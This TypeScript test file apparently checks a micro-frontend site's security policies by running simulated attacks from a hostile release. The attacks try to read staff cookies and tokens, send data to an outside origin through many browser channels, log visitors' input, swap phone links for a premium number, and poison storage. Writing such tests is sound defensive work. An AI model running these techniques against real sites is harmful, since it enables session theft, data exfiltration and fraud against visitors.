/** What a hostile release knows about its surroundings. */
export interface Aim {
  site: string;
  dashboard: string;
  /** Another origin, which answers everything. */
  elsewhere: string;
  /** Of the release's own files, with a trailing slash. */
  folder: string;
}

/** One row of the table in docs/security.md. */
export interface Attack {
  name: string;
  /** A possible attack ends with `revoke`. */
  outcome: 'held' | 'possible';
  /**
   * Runs in a script of the hostile release, as its source text. Succeeds if the result is truthy; a channel succeeds if
   * its request arrives.
   */
  run: (aim: Aim) => unknown;
}

declare global {
  /** Attack → whether it succeeded. */
  var outcomes: Promise<Record<string, boolean>> | undefined;
  /** What the release has read. */
  var overheard: string[];
}

/** An attack without an answer after this time has failed. */
const PATIENCE_MS = 3_000;

/** Source of an expression that runs the attacks one after the other, once in a document. */
export function describeAttacks(attacks: readonly Attack[], { site, dashboard, elsewhere, folder }: Aim): string {
  const aim = { site, dashboard, elsewhere, folder };
  const rows = attacks.map(({ name, run }) => `[${JSON.stringify(name)}, ${run}]`);
  return `globalThis.outcomes ??= (${runAll})([${rows.join(',\n')}], ${JSON.stringify(aim)}, ${PATIENCE_MS})`;
}

export function expectedOutcomes(attacks: readonly Attack[]): Record<string, boolean> {
  return Object.fromEntries(attacks.map(({ name, outcome }) => [name, outcome === 'possible']));
}

async function runAll(rows: readonly [string, Attack['run']][], aim: Aim, patienceMs: number) {
  globalThis.overheard = [];
  const done: Record<string, boolean> = {};
  for (const [name, run] of rows) {
    const patience = new Promise((resolve) => setTimeout(resolve, patienceMs));
    try {
      done[name] = Boolean(await Promise.race([run(aim), patience]));
    } catch {
      done[name] = false;
    }
  }
  return done;
}

/** On the site, while a person is signed in on the dashboard's origin in another tab of the same browser. */
export const STAFF_ATTACKS: readonly Attack[] = [
  { name: 'read the cookie of the session', outcome: 'held', run: () => /(?:^|; )staff=/.test(document.cookie) },
  { name: 'read the token of the session', outcome: 'held', run: () => localStorage.getItem('token') },
  {
    name: 'call a staff API on the site',
    outcome: 'held',
    run: async () => (await fetch('/api/active-chats')).ok,
  },
  {
    name: "call a staff API on the dashboard's origin",
    outcome: 'held',
    run: ({ dashboard }) => fetch(`${dashboard}/api/active-chats`, { mode: 'no-cors', credentials: 'include' }),
  },
  {
    name: 'join the staff by a socket on the site',
    outcome: 'held',
    run: ({ site }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${site.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
        socket.onmessage = ({ data }) => {
          if (data.startsWith('0')) socket.send('40{"token":"guessed"}');
          if (data.startsWith('40')) socket.send('420["joinAdminRoom"]');
          if (/^4[34]/.test(data)) resolve(data.includes('"ok":true'));
        };
      }),
  },
  {
    name: "open a socket on the dashboard's origin",
    outcome: 'held',
    run: ({ dashboard }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${dashboard.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }),
  },
  {
    name: 'read the dashboard in a window that it opens',
    outcome: 'held',
    run: async ({ dashboard }) => {
      const opened = window.open(`${dashboard}/s_dashboard`);
      // Throws once the window shows a document of another origin.
      while (opened && !opened.closed && opened.document.title === '')
        await new Promise((done) => setTimeout(done, 20));
      return opened && !opened.closed;
    },
  },
  {
    name: 'read the dashboard in a frame',
    outcome: 'held',
    run: ({ dashboard }) =>
      new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { src: `${dashboard}/s_dashboard` });
        frame.onload = () => resolve(frame.contentDocument?.title);
        document.body.append(frame);
      }),
  },
  {
    name: 'put the site in a frame',
    outcome: 'held',
    run: () =>
      new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { src: '/faq' });
        frame.onload = () => resolve(frame.contentDocument?.title);
        document.body.append(frame);
      }),
  },
];

export const CODE_ATTACKS: readonly Attack[] = [
  { name: 'eval', outcome: 'held', run: () => Reflect.get(globalThis, 'eval')('1') },
  { name: 'a function from a text', outcome: 'held', run: () => Reflect.construct(Function, ['return 1'])() },
  {
    name: 'an inline script',
    outcome: 'held',
    run: () => {
      const script = document.createElement('script');
      script.append('globalThis.isInlined = true');
      document.head.append(script);
      return Reflect.get(globalThis, 'isInlined');
    },
  },
  {
    name: 'a handler in an attribute',
    outcome: 'held',
    run: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.isHandled = true');
      button.click();
      return Reflect.get(globalThis, 'isHandled');
    },
  },
  {
    name: 'a script from elsewhere',
    outcome: 'held',
    run: ({ elsewhere }) =>
      new Promise((resolve) => {
        const script = Object.assign(document.createElement('script'), { src: `${elsewhere}/script` });
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        document.head.append(script);
      }),
  },
  { name: 'a module from elsewhere', outcome: 'held', run: ({ elsewhere }) => import(`${elsewhere}/module`) },
  {
    name: 'a Trusted Types policy',
    outcome: 'held',
    run: () => Reflect.get(globalThis, 'trustedTypes').createPolicy('hostile', { createScript: String }),
  },
  {
    name: 'a second default policy',
    outcome: 'held',
    run: () => Reflect.get(globalThis, 'trustedTypes').createPolicy('default', { createScript: String }),
  },
];

export const WORKER_ATTACKS: readonly Attack[] = [
  {
    name: 'a service worker among its files',
    outcome: 'held',
    run: ({ folder }) => navigator.serviceWorker.register(`${folder}worker.js`),
  },
  {
    name: "the dashboard's service worker",
    outcome: 'held',
    run: () => navigator.serviceWorker.register('/push-worker.js'),
  },
  {
    name: 'a shared worker',
    outcome: 'held',
    run: ({ folder }) =>
      new Promise((resolve) => {
        const worker = new SharedWorker(`${folder}worker.js`);
        worker.port.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
      }),
  },
  {
    name: 'a worker from a blob',
    outcome: 'held',
    run: () =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("runs")'])));
        worker.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
      }),
  },
];

/** Ways to send data to another origin; each requests its own name there. */
export const CHANNELS: readonly Attack[] = [
  { name: 'fetch', outcome: 'held', run: ({ elsewhere }) => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }) },
  { name: 'beacon', outcome: 'held', run: ({ elsewhere }) => navigator.sendBeacon(`${elsewhere}/beacon`, 'x') },
  { name: 'events', outcome: 'held', run: ({ elsewhere }) => void new EventSource(`${elsewhere}/events`) },
  {
    name: 'socket',
    outcome: 'held',
    run: ({ elsewhere }) => void new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
  },
  {
    name: 'image',
    outcome: 'held',
    run: ({ elsewhere }) => void Object.assign(new Image(), { src: `${elsewhere}/image` }),
  },
  {
    name: 'background',
    outcome: 'held',
    run: ({ elsewhere }) => document.body.style.setProperty('background-image', `url(${elsewhere}/background)`),
  },
  {
    name: 'style',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const style = document.createElement('style');
      style.append(`@import url(${elsewhere}/style);`);
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}/style` });
      document.head.append(style, link);
    },
  },
  { name: 'font', outcome: 'held', run: ({ elsewhere }) => new FontFace('Hostile', `url(${elsewhere}/font)`).load() },
  {
    name: 'media',
    outcome: 'held',
    run: ({ elsewhere }) => Object.assign(document.createElement('audio'), { src: `${elsewhere}/media` }).load(),
  },
  {
    name: 'prefetch',
    outcome: 'held',
    run: ({ elsewhere }) => {
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'manifest'])
        document.head.append(
          Object.assign(document.createElement('link'), { rel, as: 'fetch', href: `${elsewhere}/prefetch` }),
        );
    },
  },
  {
    name: 'speculation',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
      script.append(JSON.stringify({ prefetch: [{ urls: [`${elsewhere}/speculation`] }] }));
      document.head.append(script);
    },
  },
  {
    name: 'frame',
    outcome: 'held',
    run: ({ elsewhere }) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${elsewhere}/frame` })),
  },
  {
    name: 'object',
    outcome: 'held',
    run: ({ elsewhere }) =>
      document.body.append(Object.assign(document.createElement('object'), { data: `${elsewhere}/object` })),
  },
  {
    name: 'ping',
    outcome: 'held',
    run: ({ elsewhere }) =>
      Object.assign(document.createElement('a'), { href: '#ping', ping: `${elsewhere}/ping` }).click(),
  },
  {
    name: 'form',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  // Outside of tests a browser opens a window only after a click.
  { name: 'window', outcome: 'possible', run: ({ elsewhere }) => void window.open(`${elsewhere}/window`) },
  // The last one: it leaves the page.
  { name: 'navigation', outcome: 'possible', run: ({ elsewhere }) => location.assign(`${elsewhere}/navigation`) },
];

/** On the site, in the browser of a visitor with a chat and an unsent message. */
export const PAGE_ATTACKS: readonly Attack[] = [
  {
    name: "read the capability of the visitor's chat",
    outcome: 'possible',
    run: () => JSON.parse(localStorage.getItem('userInfo') ?? '{}').chatId,
  },
  { name: 'read an unsent message', outcome: 'possible', run: () => sessionStorage.getItem('chatDrafts') },
  {
    name: 'read the fields of other units',
    outcome: 'possible',
    run: () => {
      document.addEventListener('input', ({ target }) => overheard.push((target as HTMLInputElement).value), true);
      return true;
    },
  },
  {
    name: 'swallow keys',
    outcome: 'possible',
    run: () => {
      addEventListener('keydown', (event) => event.preventDefault(), true);
      return true;
    },
  },
  {
    name: 'replace the phone number',
    outcome: 'possible',
    run: () => {
      const links = document.querySelectorAll<HTMLAnchorElement>('a[href^="tel:"]');
      for (const link of links) link.href = 'tel:+19005550100';
      return links.length;
    },
  },
  {
    name: 'draw over the chat',
    outcome: 'possible',
    run: () => {
      const cover = document.createElement('div');
      cover.style.cssText = 'position:fixed;right:0;bottom:0;width:120px;height:120px;z-index:2147483647';
      document.body.append(cover);
      return document.elementFromPoint(innerWidth - 40, innerHeight - 40) === cover;
    },
  },
  {
    name: 'patch fetch and the history',
    outcome: 'possible',
    run: () => {
      const send = globalThis.fetch;
      globalThis.fetch = (...request) => {
        overheard.push(`${request[0]}`);
        return send(...request);
      };
      const push = history.pushState.bind(history);
      history.pushState = (...entry) => push(...entry);
      return globalThis.fetch !== send && Object.hasOwn(history, 'pushState');
    },
  },
  {
    name: 'patch React and the federation runtime',
    outcome: 'possible',
    run: () => {
      const [runtime] = Reflect.get(globalThis, '__FEDERATION__').__INSTANCES__;
      const [shared] = Object.values(runtime?.shareScopeMap.default?.react ?? {});
      const react = shared?.lib?.();
      return runtime && react && [runtime, react].every((part) => Reflect.set(part, 'patched', true));
    },
  },
  {
    name: 'fill Cache Storage',
    outcome: 'possible',
    run: async () => {
      const cache = await caches.open('hostile');
      for (const path of ['/', '/contact', '/registry.json']) await cache.put(path, new Response('hostile'));
      return cache.match('/');
    },
  },
  {
    name: 'poison cookies and storage',
    outcome: 'possible',
    run: () => {
      // biome-ignore lint/suspicious/noDocumentCookie: as a hostile script would.
      for (const name of ['release-group', 'release-preview']) document.cookie = `${name}=hostile; path=/`;
      for (const key of ['supportBot', 'chatOwner', 'chatLanguage']) localStorage.setItem(key, '<script>hostile()');
      return true;
    },
  },
  {
    name: 'poison the start marks of other units',
    outcome: 'possible',
    run: () => {
      sessionStorage.setItem('kept-fields', '{"address":');
      const registry = JSON.parse(document.getElementById('registry')?.textContent ?? '');
      for (const [unit, [row]] of Object.entries<{ metadata: { version: string } }[]>(registry.microFrontends))
        sessionStorage.setItem(`starting:${unit}/${row?.metadata.version}`, '');
      return true;
    },
  },
];

export const RELOAD_ATTACKS: readonly Attack[] = [
  {
    name: 'prevent the reload',
    outcome: 'possible',
    run: () => {
      addEventListener('beforeunload', (event) => event.preventDefault());
      return true;
    },
  },
];

/** On a partner's page with the policy that the partners' page recommends. */
export const EMBED_ATTACKS: readonly Attack[] = [
  { name: "read the partner's session cookie", outcome: 'held', run: () => document.cookie.includes('session') },
  {
    name: "read the visitor's chat on our site",
    outcome: 'held',
    run: () => localStorage.getItem('userInfo') ?? sessionStorage.getItem('chatDrafts'),
  },
  {
    name: 'call a staff API with the cookies of our site',
    outcome: 'held',
    run: ({ site }) => fetch(`${site}/api/active-chats`, { credentials: 'include' }),
  },
  {
    name: "call a staff API on the dashboard's origin",
    outcome: 'held',
    run: ({ dashboard }) => fetch(`${dashboard}/api/active-chats`, { mode: 'no-cors', credentials: 'include' }),
  },
  {
    name: 'join the staff by a socket',
    outcome: 'held',
    run: ({ site }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${site.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
        socket.onerror = () => resolve(false);
        socket.onmessage = ({ data }) => {
          if (data.startsWith('0')) socket.send('40{"token":"guessed"}');
          if (data.startsWith('40')) socket.send('420["joinAdminRoom"]');
          if (/^4[34]/.test(data)) resolve(data.includes('"ok":true'));
        };
      }),
  },
  {
    name: "a service worker for the partner's pages",
    outcome: 'held',
    run: ({ site }) => navigator.serviceWorker.register(`${site}/embed/v1.js`),
  },
  ...CODE_ATTACKS.filter(({ name }) => name !== 'a second default policy'),
  ...WORKER_ATTACKS.filter(({ name }) => name === 'a worker from a blob'),
  {
    name: 'send data elsewhere',
    outcome: 'held',
    run: ({ elsewhere }) => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }),
  },
  {
    name: "read and change the partner's page",
    outcome: 'possible',
    run: () => {
      document.title = 'hostile';
      return document.querySelector('input')?.value;
    },
  },
];
